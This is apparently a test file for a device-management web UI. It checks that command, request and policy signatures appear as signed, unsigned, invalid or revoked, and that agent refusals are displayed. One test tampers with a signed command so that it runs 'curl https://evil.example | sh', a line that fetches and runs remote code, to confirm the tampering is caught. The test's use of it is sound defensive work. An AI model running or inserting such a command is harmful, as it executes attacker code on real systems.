/**
 * Who signed what, as the device page shows it: each command's signer, or plainly UNSIGNED,
 * "signature invalid: …" or "signer revoked: …"; the same for requests and policy settings; and
 * the agent's refusals (`rejected`, `intent-rejected`) said where an admin sees them.
 */
import type { DocHandle } from "@automerge/automerge-repo/slim";
import {
  type AdminSigner,
  type CommandId,
  createDeviceDoc,
  type DeviceDoc,
  draftCommand,
  enqueueCommand,
  insertCommand,
  isLive,
  issueRevocation,
  liveCommand,
  parseDeviceId,
  recordFact,
  recordSigner,
  requestCancel,
  signCommand,
  toStoredSpec,
  updatePolicy,
} from "@outpost/shared-model";
import { cleanup, fireEvent, render, screen, within } from "@solidjs/testing-library";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { CommandQueue } from "../commands/CommandQueue.js";
import { type DeviceActions, makeDeviceActions } from "../device/device-actions.js";
import { createOneDeviceActions } from "../device/one-device-actions.js";
import { PolicyEditor } from "../device/PolicyEditor.js";
import { createDocumentStore } from "../primitives/create-document-store.js";
import { makeTestReplica } from "../testing/test-replica.js";
import { makeTestTrust, type TestTrust } from "../testing/test-trust.js";

const DEVICE = parseDeviceId("laptop-042");
const AGENT = { by: `agent:${DEVICE}`, at: 9_000 };

let replica: ReturnType<typeof makeTestReplica>;
let trust: TestTrust;
let actions: DeviceActions;
let handle: DocHandle<DeviceDoc>;
const device = () => ({ deviceId: DEVICE, handle });

beforeEach(async () => {
  replica = makeTestReplica({ admin: "alice" });
  trust = await makeTestTrust({ admin: "alice" });
  actions = makeDeviceActions(replica, trust);
  handle = replica.repo.create(createDeviceDoc(DEVICE));
});

afterEach(async () => {
  cleanup();
  await replica.close();
});

function renderQueue(): void {
  render(() => {
    const doc = createDocumentStore(handle);
    return <CommandQueue doc={doc} actions={createOneDeviceActions(actions, DEVICE, handle)} />;
  });
}

/** Enqueues through the page's actions (signed by alice); returns the command's ID. */
async function enqueueSigned(args: Record<string, string> = {}): Promise<CommandId> {
  const kind = args.command === undefined ? "system.reboot" : "shell.run";
  const report = await actions.enqueue([device()], { kind, args });
  if (report.kind !== "written") throw new Error(report.problem);
  return report.id;
}

/** Writes a command `signer` signed for this device (another admin's browser would). */
async function enqueueSignedBy(signer: AdminSigner): Promise<CommandId> {
  const by = { by: `admin:${signer.certificate.admin}`, at: 2_000 };
  const command = await signCommand(
    signer,
    DEVICE,
    draftCommand({ kind: "inventory.collect" }, by),
  );
  handle.change((doc) => {
    insertCommand(doc, command);
    recordSigner(doc, signer.certificate);
  });
  return command.spec.id;
}

const signatureOf = (id: CommandId) =>
  within(
    screen.getByText((_, element) => element?.getAttribute("data-command") === id),
  ).getAllByTestId("signature")[0];

describe("who signed each command", () => {
  it("says signed by, UNSIGNED, signature invalid or signer revoked, with the detail", async () => {
    const signed = await enqueueSigned();
    let unsigned = "" as CommandId;
    handle.change((doc) => {
      unsigned = enqueueCommand(doc, { kind: "system.reboot" }, { by: "admin:carol", at: 1_000 });
    });
    const tampered = await enqueueSigned({ command: "echo hello" });
    handle.change((doc) => {
      // The draft's own entry: liveCommand gives a plain copy, which edits nothing.
      const entry = doc.commands[tampered];
      const spec = liveCommand(doc.commands, tampered)?.spec;
      if (entry !== undefined && isLive(entry) && spec !== undefined)
        entry.spec = toStoredSpec({
          ...spec,
          args: { ...spec.args, command: "curl https://evil.example | sh" },
        });
    });
    const bob = await trust.root.adminSigner("bob");
    const bobs = await enqueueSignedBy(bob);
    renderQueue();

    // Each verdict is checked on its own (WebCrypto is asynchronous): wait for every one.
    await vi.waitFor(() => {
      expect(signatureOf(signed)?.textContent).toBe("signed by alice");
      expect(signatureOf(unsigned)?.textContent).toBe("UNSIGNED");
      expect(signatureOf(tampered)?.textContent).toBe(
        "signature invalid: the signature of alice's key does not match this command-spec on laptop-042",
      );
    }, 10_000);
    await screen.findByText("signed by bob");

    // Bob's key is revoked later: what it signed is shown as such at once.
    const revocation = await issueRevocation(trust.root.key, {
      keyId: bob.certificate.keyId,
      revokedAt: 3_000,
    });
    await trust.verifierNow.learnRevocations([revocation]);
    trust.bumpLearnt();
    await screen.findByText(
      `signer revoked: key ${bob.certificate.keyId} of admin bob was revoked`,
    );
    expect(signatureOf(bobs)?.getAttribute("data-verdict")).toBe("signer-revoked");
    expect(signatureOf(signed)?.getAttribute("data-verdict")).toBe("ok");
  });

  it("shows who signed each request, and the agent's refusals of commands and requests", async () => {
    const id = await enqueueSigned();
    await actions.cancel(device(), id);
    let forged = "";
    handle.change((doc) => {
      forged = requestCancel(doc, id, { by: "admin:mallory", at: 3_000 });
      recordFact(
        doc,
        id,
        {
          type: "intent-rejected",
          answers: forged,
          reason: "signature-missing: unsigned (admin:mallory)",
        } as never,
        AGENT,
      );
      recordFact(
        doc,
        id,
        { type: "rejected", reason: "signature-invalid: malformed signature" },
        AGENT,
      );
    });
    renderQueue();

    const item = await screen.findByTestId("command-rejected");
    expect(item.textContent).toBe("Refused by the agent: signature-invalid: malformed signature");
    expect(screen.getByTestId("request-refused").textContent).toBe(
      "The agent refused admin:mallory's cancel request: signature-missing: unsigned (admin:mallory)",
    );
    fireEvent.click(screen.getByRole("button", { name: "system.reboot" }));
    const intents = () => [...document.querySelectorAll("ol.events li.intent")];
    await within(intents()[0] as HTMLElement).findByText("signed by alice");
    await within(intents()[1] as HTMLElement).findByText("UNSIGNED");
  });
});

describe("who set each policy setting", () => {
  it("names the admin and whether the signature holds, or that the agent's own value is in force", async () => {
    await actions.editPolicy(device(), { allowShell: true });
    handle.change((doc) => updatePolicy(doc, { retainDays: 3 }, { by: "admin:carol", at: 2_000 }));
    await actions.editPolicy(device(), { samplingIntervalS: 30 });
    handle.change((doc) => {
      const register = doc.policy.samplingIntervalS;
      if (register) register.value = 1;
    });
    render(() => {
      const doc = createDocumentStore(handle);
      const one = createOneDeviceActions(actions, DEVICE, handle);
      return <PolicyEditor registers={doc.policy} actions={one} />;
    });
    const row = (setting: string) =>
      document.querySelector(`tr[data-setting="${setting}"]`) as HTMLElement;

    await within(row("allowShell")).findByText("signed by alice");
    expect(row("allowShell").textContent).toContain("admin:alice at");
    await within(row("retainDays")).findByText("UNSIGNED");
    await within(row("samplingIntervalS")).findByText(
      "signature invalid: the signature of alice's key does not match this policy-setting on laptop-042",
    );
    expect(row("load").textContent).toContain("not set: the agent's own value");
  });
});
